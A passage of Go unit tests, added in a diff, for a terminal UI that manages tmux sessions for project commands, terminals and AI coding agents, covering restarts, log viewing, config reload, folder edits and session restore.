+	if res := cmd().(commandsStoppedMsg).result; res.err != nil || res.status != "stopped db" {
+		t.Fatalf("stop result = %+v, want db stopped by its keys", res)
+	}
+	if got := strings.Join(fake.pressed, ","); got != "api/cmd-db C-c" {
+		t.Fatalf("pressed = %s, want C-c sent to db", got)
+	}
+
+	fake.sessions = []tmux.Session{{Name: "api/cmd-web"}}
+	model, _ = m.Update(runningCommandSessions("api/cmd-web"))
+	m = model.(Model)
+	selectSession("api/cmd-web")
+	_, cmd = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'x'}})
+	if res := cmd().(commandsStoppedMsg).result; res.status != "killed web after it did not stop in time" {
+		t.Fatalf("stop result = %+v, want web killed after its timeout", res)
+	}
+}
+
+func TestRestartPolicyGivesUpAfterMaxRetries(t *testing.T) {
+	t.Parallel()
+
+	m := NewModel(config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "api",
+		Commands:  []config.Command{{Name: "start", Command: "make start", Restart: config.RestartOnFailure, MaxRetries: 2}},
+	}}}, "config.toml", &trackingSessionManager{})
+	m.stopsPath = filepath.Join(t.TempDir(), "stops.json")
+	m.restarts["api/cmd-start"] = commandRestartState{restarts: 2}
+
+	model, _ := m.Update(runningCommandSessions("api/cmd-start"))
+	model, _ = model.(Model).Update(runningCommandSessions())
+	m = model.(Model)
+
+	state := m.restarts["api/cmd-start"]
+	if !state.gaveUp || !state.nextRestart.IsZero() {
+		t.Fatalf("restart state = %#v, want gave up", state)
+	}
+	if m.errMsg != "start exited; gave up after 2 restarts" {
+		t.Fatalf("errMsg = %q, want gave up message", m.errMsg)
+	}
+}
+
+func TestRestartOnFailureUsesExitStatus(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name        string
+		exited      tmux.Session
+		wantRestart bool
+	}{
+		{name: "clean exit", exited: tmux.Session{Name: "api/cmd-start", Dead: true}, wantRestart: false},
+		{name: "non-zero exit", exited: tmux.Session{Name: "api/cmd-start", Dead: true, ExitStatus: 1}, wantRestart: true},
+		{name: "signal", exited: tmux.Session{Name: "api/cmd-start", Dead: true, ExitSignal: 9}, wantRestart: true},
+	}
+
+	for _, tt := range tests {
+		tt := tt
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			m := NewModel(config.Config{Folders: []config.Folder{{
+				Name:      "API",
+				Path:      "/tmp/api",
+				Namespace: "api",
+				Commands:  []config.Command{{Name: "start", Command: "make start", Restart: config.RestartOnFailure}},
+			}}}, "config.toml", &trackingSessionManager{})
+			m.stopsPath = filepath.Join(t.TempDir(), "stops.json")
+
+			model, _ := m.Update(runningCommandSessions("api/cmd-start"))
+			exited := runningCommandSessions()
+			exited.sessions[0] = []tmux.Session{tt.exited}
+			model, _ = model.(Model).Update(exited)
+			m = model.(Model)
+
+			state := m.restarts["api/cmd-start"]
+			if got := !state.nextRestart.IsZero(); got != tt.wantRestart {
+				t.Fatalf("restart scheduled = %v, want %v", got, tt.wantRestart)
+			}
+			if state.gaveUp {
+				t.Fatalf("restart state = %#v, want not given up", state)
+			}
+		})
+	}
+}
+
+func TestUpdateSClearsExitedCommandSessionBeforeStarting(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	m := NewModel(config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "api",
+		Commands:  []config.Command{{Name: "start", Command: "make start"}},
+	}}}, "config.toml", fake)
+	m.sessions = map[int][]tmux.Session{0: {{Name: "api/cmd-start", Dead: true, ExitStatus: 1}}}
+	m.rebuildRows()
+	m.setSelected(1)
+
+	_, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'s'}})
+	if cmd == nil {
+		t.Fatal("expected start command")
+	}
+	if res, ok := cmd().(actionResultMsg); !ok || res.err != nil {
+		t.Fatalf("start result = %#v, want success", res)
+	}
+	if got := strings.Join(fake.killed, ","); got != "api/cmd-start" {
+		t.Fatalf("killed = %s, want the exited session cleared", got)
+	}
+	if got := strings.Join(fake.launched, ","); got != "api/cmd-start" {
+		t.Fatalf("launched = %s, want api/cmd-start", got)
+	}
+}
+
+func TestLogViewerLoadsFollowsAndSearches(t *testing.T) {
+	t.Parallel()
+
+	logPath := logfile.Path("logview", "start")
+	if err := os.MkdirAll(filepath.Dir(logPath), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	var content strings.Builder
+	for i := 0; i < 100; i++ {
+		if i == 20 {
+			content.WriteString("panic: nil map\r\n")
+			continue
+		}
+		fmt.Fprintf(&content, "line %d\r\n", i)
+	}
+	if err := os.WriteFile(logPath, []byte(content.String()), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	m := NewModel(config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "logview",
+		Commands:  []config.Command{{Name: "start", Command: "make start"}},
+	}}}, "config.toml", &trackingSessionManager{})
+	m.width, m.height = 120, 30
+	m.setSelected(1)
+
+	model, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'l'}})
+	m = model.(Model)
+	if m.detailMode != detailLogs || cmd == nil {
+		t.Fatalf("detailMode = %v, want log viewer", m.detailMode)
+	}
+	model, _ = m.Update(m.loadLogCmd()())
+	m = model.(Model)
+	if len(m.logLines) != 100 || !m.logFollow {
+		t.Fatalf("log lines = %d follow = %v, want 100 lines following", len(m.logLines), m.logFollow)
+	}
+	if view := m.View(); !strings.Contains(view, "line 99") || strings.Contains(view, "line 0\n") {
+		t.Fatalf("view = %q, want the end of the log", view)
+	}
+
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'/'}})
+	m = model.(Model)
+	m.prompt.SetValue("PANIC")
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyEnter})
+	m = model.(Model)
+	if m.logTop != 20 || m.logFollow {
+		t.Fatalf("logTop = %d follow = %v, want match at line 20 without follow", m.logTop, m.logFollow)
+	}
+	if view := m.View(); !strings.Contains(view, "panic: nil map") || !strings.Contains(view, "/PANIC 1 match") {
+		t.Fatalf("view = %q, want highlighted match", view)
+	}
+
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyEsc})
+	if got := model.(Model).detailMode; got != detailNormal {
+		t.Fatalf("detailMode after esc = %v, want normal", got)
+	}
+}
+
+func TestStartCommandPipesOutputToLog(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	m := NewModel(config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "api",
+		Commands:  []config.Command{{Name: "Web Server", Command: "make web"}},
+	}}}, "config.toml", fake)
+	m.setSelected(1)
+
+	_, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'s'}})
+	if res, ok := cmd().(actionResultMsg); !ok || res.err != nil {
+		t.Fatalf("start result = %#v, want success", res)
+	}
+	want := logfile.Path("api", "Web Server")
+	if len(fake.logPaths) != 1 || fake.logPaths[0] != want {
+		t.Fatalf("log paths = %v, want [%s]", fake.logPaths, want)
+	}
+	if info, err := os.Stat(filepath.Dir(want)); err != nil || !info.IsDir() {
+		t.Fatalf("log dir stat = (%v, %v), want directory", info, err)
+	}
+}
+
+func TestConfigReloadKeepsSelectionAndReportsErrors(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	cfgPath := filepath.Join(dir, "config.toml")
+	writeConfig := func(content string) {
+		t.Helper()
+		if err := os.WriteFile(cfgPath, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	apiFolder := "[[folder]]\nname = \"API\"\npath = \".\"\n\n  [[folder.command]]\n  name = \"start\"\n  command = \"make start\"\n"
+	writeConfig(apiFolder)
+	cfg, err := configfile.Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	m := NewModel(cfg, cfgPath, &trackingSessionManager{})
+	m.width, m.height = 120, 30
+	m.sessions = map[int][]tmux.Session{0: {{Name: "api/cmd-start", Windows: 1}}}
+	m.rebuildRows()
+	m.setSelected(1)
+
+	model, _ := m.Update(m.checkConfigCmd()())
+	m = model.(Model)
+	if m.statusMsg != "" || len(m.cfg.Folders) != 1 {
+		t.Fatalf("unchanged config reloaded: status = %q folders = %d", m.statusMsg, len(m.cfg.Folders))
+	}
+
+	writeConfig("[[folder]]\nname = \"Web\"\npath = \".\"\n\n" + apiFolder)
+	model, _ = m.Update(m.checkConfigCmd()())
+	m = model.(Model)
+	if len(m.cfg.Folders) != 2 || m.statusMsg != "reloaded config" {
+		t.Fatalf("folders = %d status = %q, want reloaded config", len(m.cfg.Folders), m.statusMsg)
+	}
+	if row, ok := m.selectedRow(); !ok || row.sessionName != "api/cmd-start" || row.folderIndex != 1 {
+		t.Fatalf("selected row = %#v, want api start command in its new folder", row)
+	}
+	if row, ok := m.rowBySessionName("api/cmd-start"); !ok || row.status != "running" {
+		t.Fatalf("command row = %#v, want sessions regrouped under the moved folder", row)
+	}
+
+	writeConfig("[[folder]]\nname = \"Web\"\n")
+	model, _ = m.Update(m.checkConfigCmd()())
+	m = model.(Model)
+	if len(m.cfg.Folders) != 2 {
+		t.Fatalf("folders = %d, want previous config kept on error", len(m.cfg.Folders))
+	}
+	m.statusMsg = ""
+	if footer := m.renderFooter(); !strings.Contains(footer, "config error:") || !strings.Contains(footer, "path is required") {
+		t.Fatalf("footer = %q, want config error", footer)
+	}
+	model, _ = m.Update(m.checkConfigCmd()())
+	m = model.(Model)
+	if m.cfgErr == "" {
+		t.Fatal("config error cleared while the file is still invalid")
+	}
+
+	writeConfig(apiFolder)
+	model, _ = m.Update(m.checkConfigCmd()())
+	m = model.(Model)
+	if m.cfgErr != "" || len(m.cfg.Folders) != 1 {
+		t.Fatalf("cfgErr = %q folders = %d, want fixed config applied", m.cfgErr, len(m.cfg.Folders))
+	}
+}
+
+func TestConfigReloadAppliesProjectFileEdits(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	cfgPath := filepath.Join(dir, "config.toml")
+	if err := os.WriteFile(cfgPath, []byte("[[folder]]\nname = \"API\"\npath = \".\"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := configfile.Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	m := NewModel(cfg, cfgPath, &trackingSessionManager{})
+
+	project := "[[command]]\nname = \"test\"\ncommand = \"make test\"\n"
+	if err := os.WriteFile(filepath.Join(dir, config.ProjectFile), []byte(project), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	model, _ := m.Update(m.checkConfigCmd()())
+	m = model.(Model)
+	if commands := m.cfg.Folders[0].Commands; len(commands) != 1 || commands[0].Name != "test" {
+		t.Fatalf("commands = %+v, want the project file's command", commands)
+	}
+
+	if msg := m.checkConfigCmd()().(configCheckedMsg); msg.loaded {
+		t.Fatal("config loaded again without changes")
+	}
+}
+
+func typePromptValue(t *testing.T, m Model, value string) (Model, tea.Cmd) {
+	t.Helper()
+	m.prompt.SetValue(value)
+	model, cmd := m.Update(tea.KeyMsg{Type: tea.KeyEnter})
+	return model.(Model), cmd
+}
+
+func TestEditFolderRenamesLiveSessions(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	cfgPath := filepath.Join(dir, "config.toml")
+	content := "# keep me\n[[folder]]\nname = \"API\"\npath = \".\"\n"
+	if err := os.WriteFile(cfgPath, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := configfile.Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	client := &trackingSessionManager{}
+	m := NewModel(cfg, cfgPath, client)
+	m.sessions = map[int][]tmux.Session{0: {{Name: "api/term-1"}, {Name: "api/agent-pi-1"}}}
+	m.rebuildRows()
+	m.setSelected(0)
+
+	model, _ := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'E'}})
+	m = model.(Model)
+	if m.promptMode != promptEditFolder || m.prompt.Value() != "API" {
+		t.Fatalf("prompt = %v %q, want edit folder prefilled with name", m.promptMode, m.prompt.Value())
+	}
+	m, _ = typePromptValue(t, m, "Backend")
+	if m.prompt.Value() != cfg.Folders[0].Path {
+		t.Fatalf("path prompt = %q, want current path", m.prompt.Value())
+	}
+	m, _ = typePromptValue(t, m, dir)
+	m, cmd := typePromptValue(t, m, "")
+	if cmd == nil || m.promptMode != promptNone {
+		t.Fatalf("promptMode = %v, want edit submitted", m.promptMode)
+	}
+
+	model, _ = m.Update(cmd())
+	m = model.(Model)
+	if m.errMsg != "" {
+		t.Fatalf("errMsg = %q", m.errMsg)
+	}
+	if got := strings.Join(client.renamed, ","); got != "api/term-1 -> backend/term-1,api/agent-pi-1 -> backend/agent-pi-1" {
+		t.Fatalf("renamed = %q, want sessions moved to the new namespace", got)
+	}
+	if m.cfg.Folders[0].Name != "Backend" || m.cfg.Folders[0].Namespace != "backend" || m.statusMsg != "updated folder Backend" {
+		t.Fatalf("folder = %#v status = %q, want renamed folder applied", m.cfg.Folders[0], m.statusMsg)
+	}
+	b, err := os.ReadFile(cfgPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(string(b), "# keep me\n[[folder]]\nname = \"Backend\"\n") {
+		t.Fatalf("config = %q, want name rewritten in place", b)
+	}
+}
+
+func TestEditFolderRenamesSessionsBackWhenSaveFails(t *testing.T) {
+	t.Parallel()
+
+	cfgPath := filepath.Join(t.TempDir(), "config.toml")
+	if err := os.WriteFile(cfgPath, []byte("[[folder]]\nname = \"API\"\npath = \".\"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := configfile.Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	client := &trackingSessionManager{}
+	m := NewModel(cfg, cfgPath, client)
+	m.sessions = map[int][]tmux.Session{0: {{Name: "api/term-1"}}}
+
+	// Another writer removes the folder before the edit is saved.
+	if err := os.WriteFile(cfgPath, nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	updated := cfg.Folders[0]
+	updated.Name = "Backend"
+	model, _ := m.Update(m.updateFolderCmd(0, updated)())
+	m = model.(Model)
+	if m.errMsg == "" {
+		t.Fatal("errMsg is empty, want the failed save reported")
+	}
+	if got := strings.Join(client.renamed, ","); got != "api/term-1 -> backend/term-1,backend/term-1 -> api/term-1" {
+		t.Fatalf("renamed = %q, want the session renamed and put back", got)
+	}
+}
+
+func TestRemoveCommandConfirmsAndStopsSession(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	cfgPath := filepath.Join(dir, "config.toml")
+	content := "[[folder]]\nname = \"API\"\npath = \".\"\n\n  [[folder.command]]\n  name = \"web\"\n  command = \"make web\"\n"
+	if err := os.WriteFile(cfgPath, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := configfile.Load(cfgPath)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	client := &trackingSessionManager{}
+	m := NewModel(cfg, cfgPath, client)
+	m.sessions = map[int][]tmux.Session{0: {{Name: "api/cmd-web", Windows: 1}}}
+	m.rebuildRows()
+	m.setSelected(1)
+
+	model, _ := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'D'}})
+	m = model.(Model)
+	if footer := stripANSI(m.renderFooter()); !strings.Contains(footer, "remove command web and stop it?") {
+		t.Fatalf("footer = %q, want remove confirmation", footer)
+	}
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'n'}})
+	m = model.(Model)
+	if m.confirmRemoval.kind != removalNone || m.statusMsg != "remove cancelled" {
+		t.Fatalf("confirmRemoval = %#v status = %q, want cancelled", m.confirmRemoval, m.statusMsg)
+	}
+
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'D'}})
+	m = model.(Model)
+	model, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'y'}})
+	m = model.(Model)
+	if cmd == nil {
+		t.Fatal("confirm returned nil cmd")
+	}
+	model, _ = m.Update(cmd())
+	m = model.(Model)
+	if len(m.cfg.Folders[0].Commands) != 0 || m.statusMsg != "removed command web" {
+		t.Fatalf("commands = %#v status = %q, want web removed", m.cfg.Folders[0].Commands, m.statusMsg)
+	}
+	if len(client.killed) != 1 || client.killed[0] != "api/cmd-web" {
+		t.Fatalf("killed = %v, want web session stopped", client.killed)
+	}
+}
+
+func TestRemoveFolderRefusesWhileSessionsAreLive(t *testing.T) {
+	t.Parallel()
+
+	m := NewModel(config.Config{Folders: []config.Folder{{Name: "API", Path: "/tmp/api", Namespace: "api"}}}, "config.toml", &trackingSessionManager{})
+	m.sessions = map[int][]tmux.Session{0: {{Name: "api/term-1"}}}
+	m.rebuildRows()
+	m.setSelected(0)
+
+	model, _ := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'D'}})
+	m = model.(Model)
+	if m.confirmRemoval.kind != removalNone || m.errMsg != "stop the folder's 1 session before removing it" {
+		t.Fatalf("confirmRemoval = %#v errMsg = %q, want refusal", m.confirmRemoval, m.errMsg)
+	}
+}
+
+func TestTabJumpsToSessionsWaitingLongestFirst(t *testing.T) {
+	t.Parallel()
+
+	m := NewModel(config.Config{Folders: []config.Folder{
+		{Name: "API", Path: "/tmp/api", Namespace: "api"},
+		{Name: "Web", Path: "/tmp/web", Namespace: "web"},
+	}}, "config.toml", &trackingSessionManager{})
+	m.width, m.height = 160, 40
+	model, _ := m.Update(sessionsLoadedMsg{
+		sessions: map[int][]tmux.Session{
+			0: {
+				{Name: "api/term-1", AlertsBell: true, LastOutput: 1700000200},
+				{Name: "api/term-2", LastOutput: 1700000050},
+			},
+			1: {{Name: "web/agent-claude-1", LastOutput: 1700000100}},
+		},
+		agentStates: map[string]agentStatus{
+			"web/agent-claude-1": {state: agentNeedsInput, reason: "prompt: Allow?"},
+		},
+		sessionWindows: map[string][]int{},
+		activeWindows:  map[string]int{},
+		panesFresh:     true,
+	})
+	m = model.(Model)
+	m.filterQuery = "term-2"
+	m.rebuildRows()
+
+	if footer := stripANSI(m.renderFooter()); !strings.HasPrefix(footer, "▲ 2 waiting  [tab] next waiting") {
+		t.Fatalf("footer = %q, want the waiting count and tab hint", footer)
+	}
+
+	var order []string
+	for i := 0; i < 3; i++ {
+		model, _ = m.Update(tea.KeyMsg{Type: tea.KeyTab})
+		m = model.(Model)
+		row, _ := m.selectedRow()
+		order = append(order, row.sessionName)
+	}
+	if got := strings.Join(order, ","); got != "web/agent-claude-1,api/term-1,web/agent-claude-1" {
+		t.Fatalf("tab order = %s, want longest waiting first, then wrap", got)
+	}
+	if m.filterQuery != "" {
+		t.Fatalf("filterQuery = %q, want it cleared to reveal the waiting session", m.filterQuery)
+	}
+}
+
+func TestTabWithNothingWaiting(t *testing.T) {
+	t.Parallel()
+
+	m := NewModel(config.Config{Folders: []config.Folder{{Name: "API", Path: "/tmp/api", Namespace: "api"}}}, "config.toml", &trackingSessionManager{})
+	model, _ := m.Update(runningCommandSessions("api/term-1"))
+	model, _ = model.(Model).Update(tea.KeyMsg{Type: tea.KeyTab})
+	m = model.(Model)
+	if m.statusMsg != "no sessions are waiting" || m.selected != 0 {
+		t.Fatalf("status = %q, selected = %d, want a note and no move", m.statusMsg, m.selected)
+	}
+	if footer := stripANSI(m.renderHelpBar()); strings.Contains(footer, "waiting") {
+		t.Fatalf("help bar = %q, want no counter", footer)
+	}
+}
+
+func TestSeenSessionsStayAcknowledgedUntilNewOutput(t *testing.T) {
+	t.Parallel()
+
+	m := NewModel(config.Config{Folders: []config.Folder{{Name: "API", Path: "/tmp/api", Namespace: "api"}}}, "config.toml", &trackingSessionManager{})
+	m.seenPath = filepath.Join(t.TempDir(), "seen.json")
+	model, _ := m.Update(seenLoadedMsg{times: map[string]int64{"api/term-1": 1700000100, "api/term-2": 1700000200}})
+	loaded := func(term2Output int64) sessionsLoadedMsg {
+		return sessionsLoadedMsg{
+			sessions: map[int][]tmux.Session{0: {
+				{Name: "api/term-1", HasAlerts: true, AlertsBell: true, LastOutput: 1700000100},
+				{Name: "api/term-2", HasAlerts: true, AlertsBell: true, LastOutput: term2Output},
+			}},
+			sessionWindows: map[string][]int{},
+			activeWindows:  map[string]int{},
+			panesFresh:     true,
+		}
+	}
+	model, _ = model.(Model).Update(loaded(1700000300))
+	m = model.(Model)
+	if got := m.attentionQueue(); len(got) != 1 || got[0].sessionName != "api/term-2" {
+		t.Fatalf("attention queue = %+v, want only the session with output since it was seen", got)
+	}
+
+	m.detailMode = detailPreview
+	m.previewSession = "api/term-2"
+	m.previewWindow = -1
+	m.previewSeq = 1
+	model, _ = m.Update(paneCapturedMsg{target: "api/term-2", content: "done", seq: 1})
+	m = model.(Model)
+	if got := m.attentionQueue(); len(got) != 0 {
+		t.Fatalf("attention queue after preview = %+v, want it empty", got)
+	}
+	for _, row := range m.rows {
+		if row.sessionName == "api/term-2" && row.alertsBell {
+			t.Fatal("previewed row still shows its bell")
+		}
+	}
+	if m.seen["api/term-2"] <= 1700000200 || !m.seenDirty {
+		t.Fatalf("seen = %d, dirty = %v, want the preview recorded", m.seen["api/term-2"], m.seenDirty)
+	}
+
+	model, _ = m.Update(loaded(time.Now().Add(time.Minute).Unix()))
+	m = model.(Model)
+	if got := m.attentionQueue(); len(got) != 1 || got[0].sessionName != "api/term-2" {
+		t.Fatalf("attention queue after new output = %+v, want the session back", got)
+	}
+
+	// grove attach acknowledges a session in the file while the UI runs.
+	attachedAt := time.Now().Add(time.Hour).Unix()
+	if err := seen.Save(m.seenPath, map[string]int64{"api/term-1": attachedAt}, time.Now()); err != nil {
+		t.Fatal(err)
+	}
+	msg := m.saveSeenCmd()()
+	saved := msg.(seenSavedMsg)
+	if saved.err != nil {
+		t.Fatalf("save error = %v", saved.err)
+	}
+	times, err := seen.Load(m.seenPath)
+	if err != nil || times["api/term-2"] != m.seen["api/term-2"] || times["api/term-1"] != attachedAt {
+		t.Fatalf("saved times = %v (err %v), want the preview time and the attach kept", times, err)
+	}
+	model, _ = m.Update(saved)
+	if got := model.(Model).seen["api/term-1"]; got != attachedAt {
+		t.Fatalf("seen[api/term-1] = %d, want the attach time picked up", got)
+	}
+}
+
+func TestNeedsInputAgentIsAcknowledgedOnceSeen(t *testing.T) {
+	t.Parallel()
+
+	m := NewModel(config.Config{Folders: []config.Folder{{Name: "API", Path: "/tmp/api", Namespace: "api"}}}, "config.toml", &trackingSessionManager{})
+	// A session seen while the file loads keeps that newer time.
+	m.seen["api/agent-claude-1"] = 1700000500
+	model, _ := m.Update(seenLoadedMsg{times: map[string]int64{"api/agent-claude-1": 1700000100}})
+	model, _ = model.(Model).Update(sessionsLoadedMsg{
+		sessions: map[int][]tmux.Session{0: {{Name: "api/agent-claude-1", LastOutput: 1700000300}}},
+		agentStates: map[string]agentStatus{
+			"api/agent-claude-1": {state: agentNeedsInput, reason: "prompt: Allow?"},
+		},
+		sessionWindows: map[string][]int{},
+		activeWindows:  map[string]int{},
+		panesFresh:     true,
+	})
+	m = model.(Model)
+	if got := m.attentionQueue(); len(got) != 0 {
+		t.Fatalf("attention queue = %+v, want the seen prompt acknowledged", got)
+	}
+	for _, row := range m.rows {
+		if row.sessionName == "api/agent-claude-1" && row.agent.state != agentNeedsInput {
+			t.Fatalf("agent state = %v, want it still shown as needs input", row.agent.state)
+		}
+	}
+	if m.seen["api/agent-claude-1"] != 1700000500 {
+		t.Fatalf("seen = %d, want the newer time kept", m.seen["api/agent-claude-1"])
+	}
+}
+
+func TestAcknowledgedBellDoesNotNeedInput(t *testing.T) {
+	t.Parallel()
+
+	client := &runningSessionManager{sessions: []tmux.Session{{Name: "api/agent-claude-1", AlertsBell: true, LastOutput: 1700000300}}}
+	m := NewModel(config.Config{Folders: []config.Folder{{Name: "API", Path: "/tmp/api", Namespace: "api"}}}, "config.toml", client)
+	if got := m.loadSessionsCmd()().(sessionsLoadedMsg).agentStates["api/agent-claude-1"]; got.state != agentNeedsInput {
+		t.Fatalf("unseen bell state = %v, want needs input", got.state)
+	}
+
+	m.seen["api/agent-claude-1"] = 1700000300
+	if got := m.loadSessionsCmd()().(sessionsLoadedMsg).agentStates["api/agent-claude-1"]; got.state == agentNeedsInput {
+		t.Fatalf("acknowledged bell state = %v (%s), want it judged without the bell", got.state, got.reason)
+	}
+}
+
+func TestStartupOffersToRestoreMissingSessions(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	cfg := cliTestConfig()
+	cfg.Agents[0].ResumeCommand = "claude --continue"
+	client := &trackingSessionManager{}
+	m := NewModel(cfg, "config.toml", client)
+	m.manifestPath = filepath.Join(dir, "sessions.json")
+	model, _ := m.Update(manifestLoadedMsg{manifest: manifest.Manifest{Folders: map[string][]manifest.Session{
+		"api": {
+			{Kind: manifest.KindCommand, Name: "web", Dir: "/tmp/api"},
+			{Kind: manifest.KindAgent, Name: "claude", Index: 2, Dir: dir},
+			{Kind: manifest.KindTerminal, Index: 1, Dir: "/tmp/api"},
+		},
+	}}})
+	model, _ = model.(Model).Update(runningCommandSessions("api/term-1"))
+	m = model.(Model)
+	if len(m.confirmRestore) != 2 {
+		t.Fatalf("confirmRestore = %+v, want the agent and the command", m.confirmRestore)
+	}
+	if footer := stripANSI(m.renderFooter()); !strings.Contains(footer, "restore 2 sessions from last time?") {
+		t.Fatalf("footer = %q, want the restore prompt", footer)
+	}
+
+	model, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'y'}})
+	m = model.(Model)
+	msg := cmd().(actionResultMsg)
+	if msg.err != nil || msg.status != "restored 2 sessions" {
+		t.Fatalf("restore result = %+v, want both restored", msg)
+	}
+	if got := strings.Join(client.launched, ","); got != "api/agent-claude-2,api/cmd-web" {
+		t.Fatalf("launched = %s, want the agent then the command", got)
+	}
+	if client.commands[0] != "claude --continue" || client.dirs[0] != dir {
+		t.Fatalf("agent ran %q in %q, want its resume command in its old directory", client.commands[0], client.dirs[0])
+	}
+
+	model, cmd = m.Update(runningCommandSessions("api/term-1", "api/agent-claude-2", "api/cmd-web"))
+	m = model.(Model)
+	if m.confirmRestore != nil || cmd == nil {
+		t.Fatal("want the restored sessions saved without asking again")
+	}
+	if m.manifest.Len() != 3 {
+		t.Fatalf("manifest = %+v, want the three running sessions", m.manifest)
+	}
+
+	// A list that failed part of the way says nothing about what ended.
+	failed := runningCommandSessions()
+	failed.err = errors.New("devbox: ssh: connect to host devbox: Connection refused")
+	model, _ = m.Update(failed)
+	m = model.(Model)
+	if got := m.manifest.Len(); got != 3 {
+		t.Fatalf("manifest has %d sessions after a failed list, want 3", got)
+	}
+	// Sessions all ended outside grove are not offered again.
+	model, _ = m.Update(runningCommandSessions())
+	if got := model.(Model).manifest.Len(); got != 0 {
+		t.Fatalf("manifest has %d sessions after they all ended, want 0", got)
+	}
+}
+
+func TestManifestRecordsWhereSessionsStarted(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	m := NewModel(cliTestConfig(), "config.toml", &trackingSessionManager{})
+	m.sessions = map[int][]tmux.Session{0: {
+		{Name: "api/agent-claude-1", CurrentPath: dir, Worktree: "/tmp/api-feature"},
+		{Name: "api/agent-claude-2", CurrentPath: dir},
+		{Name: "api/cmd-web", CurrentPath: dir},
+		{Name: "api/term-1", CurrentPath: dir},
+		{Name: "api/term-2", CurrentPath: filepath.Join(dir, "gone")},
+	}}
+
+	var got []string
+	for _, entry := range m.sessionManifest().Folders["api"] {
+		got = append(got, entry.Dir)
+	}
+	want := []string{"/tmp/api-feature", "/tmp/api", "/tmp/api", dir, "/tmp/api"}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("dirs = %q, want %q", got, want)
+	}
+}
+
+func TestKilledAndStoppedSessionsLeaveTheManifestAtOnce(t *testing.T) {
+	t.Parallel()
+
+	m := NewModel(cliTestConfig(), "config.toml", &trackingSessionManager{})
+	m.manifestPath = filepath.Join(t.TempDir(), "sessions.json")
+	m.stopsPath = filepath.Join(t.TempDir(), "stops.json")
+	saved := manifest.Manifest{Folders: map[string][]manifest.Session{
+		"api": {
+			{Kind: manifest.KindTerminal, Index: 1, Dir: "/tmp/api"},
+			{Kind: manifest.KindCommand, Name: "web", Dir: "/tmp/api"},
+		},
+	}}
+	if err := manifest.Save(m.manifestPath, saved); err != nil {
+		t.Fatal(err)
+	}
+	model, _ := m.Update(manifestLoadedMsg{manifest: saved})
+	model, _ = model.(Model).Update(runningCommandSessions("api/term-1", "api/cmd-web"))
+	m = model.(Model)
+	selectSession := func(name string) {
+		for i, row := range m.rows {
+			if row.sessionName == name {
+				m.setSelected(i)
+				return
+			}
+		}
+		t.Fatalf("no row for %s", name)
+	}
+
+	selectSession("api/cmd-web")
+	model, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'x'}})
+	m = model.(Model)
+	cmd()
+	selectSession("api/term-1")
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'K'}})
+	model, cmd = model.(Model).Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'y'}})
+	m = model.(Model)
+	cmd()
+
+	if m.manifest.Len() != 0 {
+		t.Fatalf("manifest = %+v, want the stopped and killed sessions dropped", m.manifest)
+	}
+	if onDisk, err := manifest.Load(m.manifestPath); err != nil || onDisk.Len() != 0 {
+		t.Fatalf("saved manifest = %+v, %v, want it emptied right away", onDisk, err)
+	}
+	// Their going is not mistaken for the server dying.
+	model, _ = m.Update(runningCommandSessions())
+	if got := model.(Model).manifest.Len(); got != 0 {
